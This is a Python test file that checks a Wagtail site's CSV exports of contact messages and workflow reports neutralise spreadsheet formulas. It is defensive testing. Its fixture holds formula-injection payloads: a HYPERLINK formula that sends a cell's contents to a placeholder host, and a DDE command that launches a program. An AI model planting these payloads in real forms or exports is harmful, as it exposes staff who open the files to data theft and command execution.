"""What a visitor types never becomes a formula in an exported spreadsheet."""

import csv
import io

from home.spreadsheet import spreadsheet_safe
from tests.factories import OrganisationContentPageFactory

HOSTILE = {
    "name": "+SUM(1;2)",
    "email": "gast@example.org",
    "subject": '=HYPERLINK("http://boese.example/?"&A1;"Klick")',
    "message": "=cmd|' /C calc'!A0",
}


def exported_rows(response):
    body = b"".join(response.streaming_content).decode()
    return list(csv.reader(io.StringIO(body)))


def test_contact_message_export_keeps_formulas_as_text(client, org_a, editor_a, outbox):
    response = client.post(f"{org_a.url}contact/", HOSTILE)
    assert response.status_code == 302
    client.force_login(editor_a)
    export = client.get("/admin/snippets/organisations/contactmessage/?export=csv")
    assert export.status_code == 200
    cells = [cell for row in exported_rows(export)[1:] for cell in row]
    assert "'+SUM(1;2)" in cells
    assert "'" + HOSTILE["subject"] in cells
    assert "'" + HOSTILE["message"] in cells
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)


def test_wagtails_reports_export_page_titles_as_text(client, org_a, editor_a, moderator):
    page = OrganisationContentPageFactory(parent=org_a, title="=1+1", slug="formel", live=False)
    page.save_revision(user=editor_a)
    page.get_workflow().start(page, editor_a)
    client.force_login(moderator)
    export = client.get("/admin/reports/workflow/?export=csv")
    assert export.status_code == 200
    cells = [cell for row in exported_rows(export)[1:] for cell in row]
    assert "'=1+1" in cells and "=1+1" not in cells


def test_every_formula_start_is_neutralised_and_nothing_else():
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert spreadsheet_safe(f"{start}1") == f"'{start}1"
    assert spreadsheet_safe("Sprachcafé") == "Sprachcafé"
    assert spreadsheet_safe(-3) == -3
    assert spreadsheet_safe("") == ""
